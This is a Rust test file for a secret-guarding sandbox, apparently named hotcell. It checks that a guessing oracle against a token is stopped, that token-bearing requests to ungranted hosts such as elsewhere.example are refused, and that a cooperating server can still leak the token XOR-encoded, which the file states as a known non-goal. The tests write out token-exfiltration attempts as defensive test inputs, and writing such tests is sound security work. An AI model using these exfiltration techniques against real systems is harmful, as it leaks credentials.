//! The guessing oracle (threat E12), and the non-goal beside it: a server that cooperates with the tool.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing,
    clippy::print_stdout,
    clippy::disallowed_methods,
    reason = "tests may panic, say what they leave out, and prepare files"
)]

use hotcell_protocol::Code;
use hotcell_tests::Raw;
use hotcell_tests::Scene;
use hotcell_tests::asks;
use hotcell_tests::corpus::sends;

/// What the characters of a token are (base64 for URLs).
const ALPHABET: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

/// A URL with a text in it.
type Url<'a> = &'a dyn Fn(&str) -> String;

/// A server that gives back the body that it was sent: what the guest controls.
async fn echo() -> Scene {
    Scene::new(|seen, _| Raw::ok(&seen.body)).await
}

/// All that can follow what is known, one a line: 64 guesses in one answer.
fn guesses(known: &str) -> String {
    ALPHABET.chars().map(|next| format!("{known}{next}\n")).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn e12_a_guest_that_guesses_the_next_character_64_times_an_answer_learns_nothing() {
    let scene = echo().await;
    let hotcell = scene.open();
    let token = scene.cell.canary().token().to_owned();
    // A masker of fragments answers such a guess with a bit for each line, and is emptied in as many answers as the token has
    // characters. Here each guess comes back as it was sent, whatever of it is right, up to the last character but one.
    for known in 0..token.len() - 1 {
        // The window that a masker of fragments of 5 to 16 characters would look at, and all that is known.
        for start in [0, known.saturating_sub(4), known.saturating_sub(15)] {
            let guess = guesses(&token[start..known]);
            if known % 8 != 0 && start == 0 {
                continue;
            }
            let arguments = scene.arguments("post", "/api/echo", &[], Some(&guess));
            let request = hotcell::Request { tool: "hostile".into(), action: "ask".into(), arguments, deadline: None };
            // Not kept for the sweep: the guess itself holds nearly all of the token, which a real guest would not know.
            let called = hotcell::call(&hotcell.host, request, std::sync::Arc::new(hotcell::Unwatched)).await.unwrap();
            let hotcell_protocol::Verdict::Returned(value) = called.outcome.verdict else {
                panic!("{known} known characters: an answer was changed or withheld")
            };
            let body = value.as_str().unwrap().split_once("\n\n").unwrap().1.to_owned();
            assert!(body == guess, "{known} known characters: the answer differs from what was sent");
        }
    }
    let digest = hotcell.host.catalog().find("hostile").unwrap().digest;
    assert_eq!(hotcell_gate::StrikeBook::count(hotcell.host.strikes(), digest, "upstream"), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn e12_a_guest_that_knows_all_but_one_character_has_one_try_and_is_suspended() {
    let scene = echo().await;
    let hotcell = scene.open();
    let token = scene.cell.canary().token().to_owned();
    let guess = guesses(&token[..token.len() - 1]);
    let url = scene.url("/api/echo");
    assert_eq!(sends(&hotcell, &url, &guess).await, Some(Code::LeakStopped));
    assert_eq!(scene.upstream.seen().len(), 0, "a request with a token in its body was sent");
    // Right or wrong, nothing is answered any more: there is no bit left to be had.
    for body in [&guess, "harmless"] {
        assert_eq!(sends(&hotcell, &url, body).await, Some(Code::LeakStopped));
    }
    assert_eq!(scene.upstream.seen().len(), 0);
}

#[tokio::test(flavor = "multi_thread")]
async fn e12_g13_what_no_grant_allows_is_refused_alike_with_a_token_in_it_and_without() {
    let scene = echo().await;
    let hotcell = scene.open();
    let token = scene.cell.canary().token().to_owned();
    let letters = token.to_lowercase().replace(['_', '-'], "");
    let urls: [(Url<'_>, Code); 4] = [
        (&|text| format!("https://elsewhere.example/{text}"), Code::OriginNotGranted),
        (
            &|text| format!("https://{}.elsewhere.example/", text.to_lowercase().replace(['_', '-'], "")),
            Code::OriginNotGranted,
        ),
        (&|text| scene.url(&format!("/not-granted/{text}")), Code::PathNotGranted),
        (&|text| format!("{}#{text}", scene.url("/api/x")), Code::BadRequest),
    ];
    for (url, code) in urls {
        assert_eq!(sends(&hotcell, &url(&token), "").await, Some(code), "a bit without a strike");
        assert_eq!(sends(&hotcell, &url("nothing"), "").await, Some(code));
    }
    // The record keeps the names of hosts; not one that is a token's letters.
    let record = std::fs::read_to_string(scene.cell.places().state.join("audit/audit.jsonl")).unwrap();
    assert!(
        record.contains("elsewhere.example") && !record.to_lowercase().contains(&letters),
        "a host's name is on record"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn non_goal_a_server_that_cooperates_with_the_tool_gives_the_token_away_by_arithmetic() {
    // Honest about the limit (SECURITY.md, "Out of scope"): whoever receives the token can send it in a form that nobody
    // looks for. What helps is where it is sent: an origin and a path that the operator trusts, a token with little scope
    // and a short life, and the record of which tool asked whom.
    let scene = Scene::new(|_, token| Raw::ok(xored(token))).await;
    let hotcell = scene.open();
    let (got, _) = asks(&hotcell, scene.arguments("get", "/api/x", &[], None)).await;
    let got = got.unwrap();
    let body = got.split_once("\n\n").unwrap().1;
    let bytes: Vec<u8> = body.split(' ').map(|number| number.parse::<u8>().unwrap() ^ 0x5a).collect();
    let leaked_by_a_cooperating_server = String::from_utf8(bytes).unwrap();
    assert!(leaked_by_a_cooperating_server == scene.cell.canary().token(), "the non-goal has become a promise: say so");
    // The record names the way that it went.
    let record = std::fs::read_to_string(scene.cell.places().state.join("audit/audit.jsonl")).unwrap();
    assert!(record.contains(&scene.upstream.origin()) && record.contains("\"scope\":\"use\""), "{record}");
}

fn xored(token: &str) -> String {
    token.bytes().map(|byte| (byte ^ 0x5a).to_string()).collect::<Vec<_>>().join(" ")
}
